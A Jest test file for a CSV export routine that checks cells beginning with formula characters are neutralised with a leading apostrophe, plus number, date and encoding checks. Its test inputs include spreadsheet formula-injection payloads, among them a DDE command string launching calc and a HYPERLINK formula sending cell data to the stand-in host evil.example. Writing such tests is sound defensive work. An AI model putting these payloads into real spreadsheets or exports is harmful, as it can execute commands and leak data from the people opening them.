import { Readable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { describe, expect, test } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { csvFile, inert } from '../../bot/export-csv.ts';
import type { Cell } from '../../domain/exports/columns.ts';

const written = async (rows: readonly (readonly Cell[])[], columns = ['a', 'b']): Promise<string> =>
  (await buffer(Readable.from(rows).pipe(csvFile(columns)))).toString('utf8');

/** The cells of the rows below the header, as a reader of the format finds them. */
const read = (csv: string): string[][] => parse(csv, { bom: true }).slice(1);

const cellFor = async (value: Cell): Promise<string | undefined> => read(await written([[value, 'x']]))[0]?.[0];

describe('no text begins a formula', () => {
  test.each([
    '=1+1',
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"Invoice")',
    '+1+1',
    '+31 20 555 0100',
    '-1+1',
    '-5',
    '@SUM(1+1)',
    '\tname',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
    '﹦1+1',
  ])('%j has an apostrophe in front', async (value) => {
    expect(await cellFor(value)).toBe(`'${value}`);
  });

  test.each(['  =1+1', '\u00a0=1+1', '\u200b=1+1', '\ufeff=1+1', '\u2028=1+1', '"=1+1"', "'=1+1", ' " \' @SUM(1)'])(
    'nor after blanks, quotes and letters that nobody sees: %j',
    async (value) => {
      expect(await cellFor(value)).toBe(`'${value}`);
    },
  );

  test.each([
    ['Fabrikam;=1+1', "Fabrikam;'=1+1"],
    ["Fabrikam; =cmd|'/C calc'!A0;", "Fabrikam;' =cmd|'/C calc'!A0;"],
    ['Fabrikam\t@SUM(1)', "Fabrikam\t'@SUM(1)"],
    ['\t=1+1', "'\t'=1+1"],
    ['\r=1+1', "'\r'=1+1"],
    ['\n=1+1', "'\n'=1+1"],
    ['Fabrikam\r\n=1+1', "Fabrikam\r\n'=1+1"],
  ])('nor where another reader would begin a cell: %j', async (value, cell) => {
    expect(await cellFor(value)).toBe(cell);
  });

  test.each([
    'Fabrikam',
    'A = B',
    'a-b',
    'anna@fabrikam.example',
    'R&D + Sales',
    "Margie's",
    "'t Hooft",
    '1e5',
    '',
    ' x ',
  ])('%j is left as it is', async (value) => {
    expect(await cellFor(value)).toBe(value);
  });

  test('whatever it is, one reader and the other find no cell that begins one', async () => {
    const letters = fc.constantFrom(...'=+-@＝ \t\r\n;,"\'|aé1\u200b');
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: letters, maxLength: 12 }), async (value) => {
        const csv = await written([['x', value]]);
        const found = read(csv)[0]?.[1] ?? '';
        expect(found.replaceAll("'", '')).toBe(value.replaceAll("'", ''));
        expect(found).not.toMatch(/^[=+\-@＝\t\r]/);
        // Semicolons as separators, quotes not understood: the least that any reader does.
        const naive = csv
          .slice(1)
          .split(/[;\t\r\n]/)
          .map((cell) => cell.trim());
        expect(naive.filter((cell) => /^["\u200b\s]*[=+\-@＝]/.test(cell))).toEqual([]);
      }),
      { numRuns: 1_000 },
    );
  });

  test('a text is marked once, however often it is', () => {
    expect(inert('=1')).toBe("'=1");
  });
});

describe('what Claimdesk writes itself', () => {
  test.each([
    [-5, '-5'],
    [0, '0'],
    [36_000, '36000'],
    [25_000.5, '25000.5'],
    [99_999_999_999.99, '99999999999.99'],
    [0.01, '0.01'],
    [1_000_027, '1000027'],
  ])('the number %d stays a number, with a point and no groups', async (value, cell) => {
    expect(await cellFor(value)).toBe(cell);
    expect(Number(cell)).toBe(value);
  });

  test('a moment is ISO 8601 in UTC, and what is not there is empty', async () => {
    expect(read(await written([[new Date('2026-11-23T13:00:00+01:00'), null]]))).toEqual([
      ['2026-11-23T12:00:00.000Z', ''],
    ]);
  });
});

describe('the file', () => {
  test('begins with the mark of UTF-8 and the header, and separates by comma and CRLF', async () => {
    expect(
      await written([
        ['Fabrikam, Inc.', 'say "hé"'],
        ['two\nlines', 'x'],
      ]),
    ).toBe('\ufeffa,b\r\n"Fabrikam, Inc.","say ""hé"""\r\n"two\nlines",x\r\n');
  });

  test('has its header when there is no row', async () => {
    expect(await written([])).toBe('\ufeffa,b\r\n');
  });
});
